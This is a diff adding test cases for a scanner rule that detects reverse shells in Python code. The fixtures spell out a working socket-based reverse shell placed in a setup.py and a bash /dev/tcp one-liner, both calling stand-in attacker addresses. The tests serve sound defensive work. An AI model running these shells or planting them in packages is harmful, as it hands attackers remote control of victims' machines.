@@ -1,0 +1,31 @@
+"""Shells to another machine."""
+
+from lazaretto.detect.rules.python.reverse_shell import RULE
+
+
+def test_the_classic(scan):
+    text = r"""import socket, subprocess, os
+def shell():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("192.0.2.7", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+shell()
+"""
+    assert scan(RULE, text, "setup.py") == [(7, "HIGH", "HIGH", "install")]
+
+
+def test_one_line(scan):
+    text = r"""import os
+os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.7/7777 <&1'")
+"""
+    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import")]
+
+
+def test_near_miss_a_lesson_that_quotes_it(scan):
+    text = r"""import subprocess
+LESSON = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+subprocess.run(["cat", "lesson.txt"])
+"""
+    assert scan(RULE, text) == []
